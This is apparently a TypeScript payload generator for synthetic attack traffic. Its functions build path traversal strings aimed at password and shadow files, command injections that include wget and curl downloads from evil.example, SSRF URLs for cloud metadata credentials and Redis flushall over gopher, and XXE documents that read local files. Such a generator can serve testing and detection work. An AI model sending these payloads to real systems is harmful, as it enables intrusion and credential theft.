import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';

const UNIX_FILES = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'etc/group',
  'root/.bash_history',
  'etc/mysql/my.cnf',
];
const WINDOWS_FILES = [
  'windows\\win.ini',
  'windows\\system32\\drivers\\etc\\hosts',
  'winnt\\win.ini',
  'inetpub\\wwwroot\\web.config',
];
const URL_KINDS = ['path', 'query'] as const;

export function filePayload(r: Random): Payload {
  const depth = r.int(2, 9);
  const unix = r.pick(UNIX_FILES);
  const windows = r.pick(WINDOWS_FILES);
  const base = r.pick(['', '', 'images/', 'docs/', `${r.hex(2)}/`]);
  return r.pick<() => Payload>([
    () => ({
      technique: 'dots and slashes',
      text: `${base}${'../'.repeat(depth)}${unix}`,
      kinds: ['query', 'json', 'cookie', 'form', 'xml'],
    }),
    () => ({ technique: 'backslashes', text: `${base}${'..\\'.repeat(depth)}${windows}` }),
    () => ({
      technique: 'encoded slashes',
      text: `${base}${r.pick(['..%2f', '..%2F', '%2e%2e%2f', '%2E%2E%2F']).repeat(depth)}${unix.replaceAll('/', '%2f')}`,
      wire: true,
      kinds: URL_KINDS,
    }),
    () => ({
      technique: 'double encoded',
      text: `${base}${r.pick(['%252e%252e%252f', '..%252f']).repeat(depth)}${unix.replaceAll('/', '%252f')}`,
      wire: true,
      kinds: URL_KINDS,
    }),
    () => ({
      technique: 'overlong UTF-8',
      text: `${base}${r.pick(['..%c0%af', '%c0%ae%c0%ae/', '%c0%ae%c0%ae%c0%af']).repeat(depth)}${unix}`,
      wire: true,
      kinds: URL_KINDS,
    }),
    () => ({
      technique: 'doubled dots',
      text: `${base}${r.pick(['....//', '....\\/']).repeat(depth)}${unix}`,
      kinds: ['query', 'json', 'form'],
    }),
    () => ({
      technique: 'null byte',
      text: `${base}${'../'.repeat(depth)}${unix}%00.${r.pick(['png', 'jpg', 'html', 'pdf'])}`,
      wire: true,
      kinds: ['query'],
    }),
    () => ({
      technique: 'absolute file',
      text: `/${unix}${r.pick(['', '#', '?'])}${r.hex(r.int(0, 2))}`,
      kinds: ['query', 'json'],
    }),
    () => ({
      technique: 'file scheme',
      text: `file:///${unix}${r.pick(['', `?${r.hex(2)}`])}`,
      kinds: ['query', 'json'],
      alsoFamilies: ['ssrf'],
    }),
    () => ({
      technique: 'semicolon segments',
      text: `${'..;/'.repeat(depth)}${r.pick(['manager/html', 'WEB-INF/web.xml', unix])}`,
      wire: true,
      kinds: ['path'],
      alsoFamilies: ['scanner'],
    }),
  ])();
}

const COMMANDS = [
  'id',
  'whoami',
  'uname -a',
  'ls -la /',
  'cat /etc/passwd',
  'ps aux',
  'ifconfig',
  'env',
  'pwd; ls',
];

export function commandPayload(r: Random): Payload {
  const value =
    r.pick(['', '1', 'test', '192.0.2.10', 'report', 'file.txt']) + (r.chance(0.6) ? r.hex(2) : '');
  const command = r.pick([
    ...COMMANDS,
    `ping -c ${r.int(1, 9)} 127.0.0.1`,
    `curl http://${r.hex(4)}.evil.example/`,
    `wget http://${r.hex(4)}.evil.example/x.sh -O /tmp/${r.hex(3)}`,
    `cat /etc/${r.pick(['shadow', 'hosts', 'issue'])}`,
    `touch /tmp/${r.hex(4)}`,
    `rm -rf /tmp/${r.hex(3)}`,
    `nslookup ${r.hex(4)}.evil.example`,
  ]);
  if (r.chance(0.15)) {
    const delaySeconds = r.int(4, 9);
    return {
      technique: 'sleep',
      text: `${value}${r.pick(['; ', ' | ', ' && ', '& '])}sleep ${delaySeconds}`,
      delaySeconds,
    };
  }
  return {
    technique: 'command after a separator',
    text: r.pick([
      `${value}; ${command}`,
      `${value}| ${command}`,
      `${value} || ${command}`,
      `${value} && ${command}`,
      `${value}& ${command} &`,
      `${value}\n${command}`,
      `${value}\`${command}\``,
      `${value}$(${command})`,
      `${value};${command};`,
      `"; ${command}; echo "${r.hex(1)}`,
      `'; ${command}; '`,
    ]),
    alsoFamilies: ['path-traversal'],
  };
}

export function requestForgeryPayload(r: Random): Payload {
  // No ports a developer's own callback would have.
  const port = r.pick([6379, 9200, 22, 3306, 25, 11211, 2375]);
  const page = r.pick(['', 'admin', 'status', `${r.hex(3)}`, 'server-status', 'console', 'internal/users']);
  return r.pick<() => Payload>([
    () => ({
      technique: 'cloud metadata',
      text: `http://169.254.169.254/latest/${r.pick(['meta-data/', 'meta-data/iam/security-credentials/', 'user-data', 'dynamic/instance-identity/document', 'meta-data/hostname', 'api/token'])}${r.pick(['', `?${r.hex(2)}`])}`,
    }),
    () => ({
      technique: 'metadata host',
      text: `http://metadata.google.internal/computeMetadata/v1/${r.pick(['instance/service-accounts/default/token', 'project/project-id', '?recursive=true', 'instance/hostname'])}`,
    }),
    () => ({ technique: 'loopback name', text: `${r.pick(['http', 'https'])}://localhost:${port}/${page}` }),
    () => ({ technique: 'loopback address', text: `http://127.0.0.1:${port}/${page}` }),
    () => ({ technique: 'loopback IPv6', text: `http://[::1]:${port}/${page}` }),
    () => ({ technique: 'all zero address', text: `http://0.0.0.0:${port}/${page}` }),
    () => ({ technique: 'decimal address', text: `http://2130706433:${port}/${page}` }),
    () => ({
      technique: 'gopher',
      text: `gopher://127.0.0.1:${port}/_${r.pick(['*1%0d%0a$8%0d%0aflushall', 'SET%20a%20b', 'INFO'])}%0d%0a${r.hex(2)}`,
      alsoFamilies: ['crlf-injection'],
    }),
    () => ({
      technique: 'dict',
      text: `dict://127.0.0.1:${port}/${r.pick(['info', 'stats', 'config:get:dir'])}`,
    }),
    () => ({
      technique: 'private network',
      text: `http://${r.pick([`10.${r.int(0, 40)}.${r.int(0, 9)}`, `192.168.${r.int(0, 9)}`, `172.${r.int(16, 31)}.0`])}.${r.int(1, 250)}:${port}/${page}`,
      kinds: ['query', 'form'],
    }),
  ])();
}

/** A whole XML document. */
export function entityDocument(r: Random): { readonly text: string; readonly technique: string } {
  const root = r.pick(['order', 'invoice', 'request', 'foo', 'import', 'stockCheck']);
  const entity = r.pick(['xxe', 'ent', 'file', 'a', r.hex(3).replace(/^\d/, 'e')]);
  const head = r.pick(['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', '']);
  const file = r.pick([...UNIX_FILES, 'c:/windows/win.ini', 'c:/boot.ini']);
  const outside = `http://${r.hex(4)}.evil.example/${r.pick(['x.dtd', 'ev.xml', 'a'])}`;
  const use = `<${root}><id>${r.int(1, 999)}</id><note>&${entity};</note></${root}>`;
  return r.pick([
    () => ({
      technique: 'file entity',
      text: `${head}<!DOCTYPE ${root} [<!ENTITY ${entity} SYSTEM "file:///${file}">]>${use}`,
    }),
    () => ({
      technique: 'web entity',
      text: `${head}<!DOCTYPE ${root} [\n  <!ELEMENT ${root} ANY>\n  <!ENTITY ${entity} SYSTEM "${r.pick([outside, 'http://169.254.169.254/latest/meta-data/'])}"> ]>${use}`,
    }),
    () => ({
      technique: 'parameter entity',
      text: `${head}<!DOCTYPE ${root} [<!ENTITY % ${entity} SYSTEM "${outside}"> %${entity};]><${root}><id>${r.int(1, 99)}</id></${root}>`,
    }),
    () => ({
      technique: 'public entity',
      text: `${head}<!DOCTYPE ${root} [<!ENTITY ${entity} PUBLIC "${r.hex(2)}" "file:///${file}">]>${use}`,
    }),
    () => ({
      technique: 'external subset',
      text: `${head}<!DOCTYPE ${root} SYSTEM "${outside}"><${root}><id>${r.int(1, 999)}</id></${root}>`,
    }),
  ])();
}
